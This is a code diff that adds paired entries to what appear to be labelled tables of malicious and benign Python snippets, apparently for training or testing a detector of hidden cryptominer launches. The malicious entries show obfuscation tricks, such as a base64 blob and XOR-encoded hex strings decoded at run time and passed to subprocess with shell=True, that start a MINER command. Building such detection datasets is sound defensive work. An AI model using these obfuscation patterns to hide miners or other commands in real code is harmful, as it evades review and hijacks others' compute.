@@ -646,6 +646,11 @@ TABLES = {
         "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
         "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
         f"Boot('{b64('cd /tmp' + chr(10) + MINER)}')",
+    "a callable class keeping its encoded steps from *parts, decoded by a method of its own":
+        "import subprocess\nclass Job:\n    K = b'Z7'\n    def __init__(self, *parts):\n        self.parts = parts\n"
+        "    def _x(self, h):\n        b = bytes.fromhex(h)\n        return bytes(c ^ self.K[i % 2] for i, c in enumerate(b)).decode()\n"
+        "    def __call__(self):\n        for p in self.parts:\n            subprocess.run(self._x(p), shell=True)\n"
+        f"Job('{xored('nvidia-smi', b'Z7')}', '{xored(MINER, b'Z7')}')()",
     "a script written to a path made with the process id, then run":
         "import os, base64, subprocess\npath = os.path.join('/tmp', 'job_' + str(os.getpid()) + '.sh')\n"
         f"with open(path, 'w') as fh:\n    fh.write('cd /tmp\\n{MINER}\\n')\nsubprocess.run(['bash', path])",
@@ -690,6 +695,11 @@ TABLES_BENIGN = {
         "class Boot:\n    def __init__(self, blob):\n        text = base64.b64decode(blob).decode()\n"
         "        for line in text.split('\\n'):\n            subprocess.run(line, shell=True)\n"
         f"Boot('{b64('cd /tmp' + chr(10) + 'nvidia-smi -L')}')",
+    "a callable class running ordinary steps decoded by a method of its own":
+        "import subprocess\nclass Job:\n    K = b'Z7'\n    def __init__(self, *parts):\n        self.parts = parts\n"
+        "    def _x(self, h):\n        b = bytes.fromhex(h)\n        return bytes(c ^ self.K[i % 2] for i, c in enumerate(b)).decode()\n"
+        "    def __call__(self):\n        for p in self.parts:\n            subprocess.run(self._x(p), shell=True)\n"
+        f"Job('{xored('nvidia-smi', b'Z7')}', '{xored('ls -la /content', b'Z7')}')()",
     "an ordinary function picked from a list written in place": "import os\nwhere = [os.getcwd][0]\nprint(where())",
     "a helper look-up of an ordinary function": "import os\ng = lambda o, n: getattr(o, n[::-1])\nprint(g(os, 'dwcteg')())",
     "a device chosen in os.environ and read back": "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
